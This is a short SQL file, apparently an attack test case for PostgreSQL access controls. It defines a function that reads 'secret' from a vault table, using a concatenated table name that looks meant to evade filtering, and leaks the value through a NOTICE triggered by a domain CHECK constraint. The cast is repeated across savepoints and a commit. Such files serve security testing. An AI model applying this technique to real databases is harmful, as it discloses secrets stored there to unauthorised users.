-- Casts to a domain, goes back to a savepoint, and casts again, in and behind the transaction.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; RETURN found; END
$f$;
CREATE FUNCTION tell(what text) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN RAISE NOTICE '%', what; RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tell(peek() || VALUE));
BEGIN;
SAVEPOINT before;
SELECT 'x'::told;
ROLLBACK TO before;
SELECT 'x'::told;
ROLLBACK TO before;
COMMIT;
SELECT 'x'::told;
SELECT json_populate_record(NULL::mallory_own, '{}') IS NULL, 'x'::told;
